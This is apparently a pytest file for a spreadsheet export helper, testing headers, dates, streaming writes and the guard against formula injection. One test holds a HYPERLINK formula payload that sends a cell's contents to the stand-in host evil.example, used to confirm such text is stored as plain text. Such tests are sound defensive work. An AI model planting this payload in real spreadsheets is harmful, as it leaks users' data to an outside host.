import io
from datetime import datetime

from openpyxl import load_workbook

from core.xlsx import Sheet, workbook_bytes, write_book


def test_workbook_holds_headers_rows_and_notes():
    data = workbook_bytes(
        [
            Sheet(
                "部门排名: 2026/10",
                ["部门", "按期率"],
                [["环卫", 0.95], ["园林", None]],
                notes=["按期率 = 按期处置数 / 应处置数"],
            )
        ]
    )
    book = load_workbook(io.BytesIO(data))
    ws = book.worksheets[0]
    assert ws.title == "部门排名  2026 10"
    assert [c.value for c in ws[1]] == ["部门", "按期率"]
    assert [c.value for c in ws[2]] == ["环卫", 0.95]
    assert ws["B3"].value is None
    assert ws["A5"].value == "按期率 = 按期处置数 / 应处置数"


def test_dates_stay_dates_and_other_values_become_text():
    data = workbook_bytes([Sheet("x", ["when", "what"], [[datetime(2026, 11, 26, 9, 30), ["a"]]])])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert ws["A2"].value == datetime(2026, 11, 26, 9, 30)
    assert ws["B2"].value == "['a']"


def test_text_that_looks_like_a_formula_stays_text():
    typed = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    data = workbook_bytes([Sheet("x", ["描述"], [[typed]], notes=["=1+1"])])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    assert (ws["A2"].value, ws["A2"].data_type) == (typed, "s")
    assert (ws["A4"].value, ws["A4"].data_type) == ("=1+1", "s")


def test_rows_are_written_one_after_the_other_without_reading_the_sheet_back(monkeypatch):
    """openpyxl's ws.max_row scans every cell written so far: read per row it made a 3,000-row export
    take 25 s. The workbook is written in write-only mode, from a generator, never looking back."""
    from openpyxl.worksheet.worksheet import Worksheet

    def scanned(self):
        raise AssertionError("max_row read while writing")

    monkeypatch.setattr(Worksheet, "max_row", property(scanned))
    produced = []

    def rows():
        for n in range(1, 1001):
            produced.append(n)
            yield [n, f"={n}"]

    progress = []
    buffer = io.BytesIO()
    count = write_book(buffer, [Sheet("x", ["n", "text"], rows(), total=1000)], progress.append, every=400)
    assert count == 1000 and progress == [400, 800]
    assert workbook_bytes([Sheet("y", ["a"], [[1]] * 10, notes=["=n"])])  # the in-request path too
    monkeypatch.undo()
    ws = load_workbook(io.BytesIO(buffer.getvalue())).worksheets[0]
    assert [ws.cell(row=1001, column=c).value for c in (1, 2)] == [1000, "=1000"]
    assert ws["B2"].data_type == "s" and ws.freeze_panes == "A2"
